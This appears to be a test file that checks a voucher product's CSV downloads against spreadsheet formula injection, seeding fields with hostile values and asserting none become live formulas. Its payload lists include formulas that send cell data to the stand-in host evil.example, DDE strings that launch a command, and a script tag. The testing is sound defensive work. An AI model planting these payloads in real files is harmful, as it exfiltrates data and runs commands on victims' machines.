import { selectRows } from "../../../platform/database/index.js";
import {
  createBatch,
  createTestApp,
  followDownload,
  readCsv,
  redeem,
  type TestApp,
  type TestClient,
  type TestDownload,
} from "../../../testing/index.js";

/** What a spreadsheet skips in front of a formula, or splits a cell at. */
const BEFORE = [
  "",
  " ",
  "\u00a0",
  "\u3000",
  "\u200b",
  "\ufeff",
  "\u00ad",
  "\u0001",
  '"',
  '""',
  "x;",
  "x\t",
  "x\r\n",
  "x\n",
  'x";"',
  "\u2028",
];
/** What begins a formula, as people have written about it. */
const FORMULAS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(1;+1)",
  "|calc",
  "%0A",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '=HYPERLINK("http://evil.example?x="&A1,"x")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=1+1";=2+2',
];
/** What breaks a file that is not quoted as it should be. */
const QUOTING = [
  '"',
  '""',
  '"""',
  '","',
  '";"',
  ",",
  ";",
  "\t",
  "a,b",
  'a"b',
  'a\r\n"b',
  "a\rb",
  "a\nb",
  "'=1",
  "'",
  '\\"=1',
  "x\r\nx,x,x,x",
  "Ñandú 🎁 六月",
  "<script>alert(1)</script>",
  "a ".repeat(30),
];

const ATTACKS = [
  ...new Set([
    ...BEFORE.map((before) => `${before}=1+1`),
    ...BEFORE.map((before) => `${before}@x`),
    ...FORMULAS,
    ...QUOTING,
  ]),
];

/** Whether a spreadsheet would compute a cell, or one of those it makes out of it. Written apart from the product's own rule. */
function isComputed(cell: string): boolean {
  const parts = cell.split(/[;\t\r\n]/);
  return [cell, ...parts].some((part) => {
    const [first = ""] = [...part].filter((character) => !/[\s\p{C}"]/u.test(character));
    return "=+-@|%＝＋－＠".includes(first) && first !== "";
  });
}

/** The text as it was, whatever was put in front of a formula in it. */
const withoutApostrophes = (text: string) => text.replaceAll("'", "");

let app: TestApp;
let client: TestClient;

beforeAll(async () => {
  app = await createTestApp();
  const superadmin = await app.createUser({ role: "SUPERADMIN" });
  client = await app.signInAs(superadmin);
  // Written straight into the tables: the forms would refuse some of it, and must not be what keeps a file safe.
  for (const [at, attack] of ATTACKS.entries()) {
    const model = await app.createModel({ slug: `${attack}${at}`, name: attack, provider: attack });
    const { codes } = await createBatch(app.database, superadmin, {
      name: attack,
      campaign: attack,
      codeMode: "MULTI_CODE",
      codes: [`SAFE-A-${at}-X`, `SAFE-B-${at}-X`],
      benefits: [{ unit: "LLM_TOKEN", amount: 1, modelId: model.id }],
    });
    const person = await app.createUser({ name: attack, email: `${attack}@${at}.example` });
    await redeem(await app.signInAs(person), codes[1]?.display ?? "");
  }
});
afterAll(() => app.close());

/** Asks for a file by a mutation, follows its link, and reads it as a spreadsheet does. */
async function download(mutation: string, given: string): Promise<Record<string, string>[]> {
  const type = mutation.replace("create", "");
  const data = await client.ask<Record<string, TestDownload>>(
    `mutation { ${mutation}${given} { ... on ${type} { url } } }`,
  );
  return readCsv(await followDownload(client, data[mutation]?.url ?? ""));
}

async function batches(): Promise<{ id: string; name: string }[]> {
  const rows = await selectRows(
    app.database.reader,
    "SELECT public_id, name FROM voucher_batches ORDER BY id",
  );
  return rows.map((row) => ({ id: String(row.public_id), name: String(row.name) }));
}

function checkCells(lines: readonly Record<string, string>[]): void {
  const cells = lines.flatMap((line) => Object.values(line));
  expect(cells.filter(isComputed)).toEqual([]);
}

test(`${ATTACKS.length} formulas and quoting tricks are told from each other`, () => {
  expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
  expect(ATTACKS.filter(isComputed).length).toBeGreaterThanOrEqual(45);
});

test("no text of any field becomes a formula in a file of codes, and each comes back as it was", async () => {
  for (const { id, name } of await batches()) {
    const lines = await download("createCodesDownload", `(batchId: "${id}")`);
    checkCells(lines);
    expect(lines.map((line) => line.status)).toEqual(["AVAILABLE", "CLAIMED"]);
    for (const line of lines) {
      for (const text of [line.batch, line.campaign]) {
        expect(withoutApostrophes(text ?? "")).toBe(withoutApostrophes(name));
      }
      expect(withoutApostrophes(line.model ?? "").startsWith(withoutApostrophes(name))).toBe(true);
    }
    const by = withoutApostrophes(lines[1]?.["claimed by"] ?? "");
    expect(by.startsWith(`${withoutApostrophes(name)} <${withoutApostrophes(name)}@`)).toBe(true);
  }
});

test("nor in a file of claims", async () => {
  for (const { id, name } of await batches()) {
    const [line, ...more] = await download("createClaimsDownload", `(batchId: "${id}")`);
    expect(more).toEqual([]);
    checkCells([line ?? {}]);
    expect(withoutApostrophes(line?.name ?? "")).toBe(withoutApostrophes(name));
    expect(withoutApostrophes(line?.["e-mail"] ?? "").startsWith(`${withoutApostrophes(name)}@`)).toBe(true);
    expect(line?.code).toMatch(/^SAFE-B-/);
  }
});

test("nor in the list of vouchers", async () => {
  const lines = await download("createVouchersDownload", "(sort: { field: CREATED_AT, direction: ASC })");
  checkCells(lines);
  const names = (column: string) => lines.map((line) => withoutApostrophes(line[column] ?? "")).sort();
  expect(names("voucher")).toEqual(ATTACKS.map(withoutApostrophes).sort());
  expect(names("campaign")).toEqual(ATTACKS.map(withoutApostrophes).sort());
});
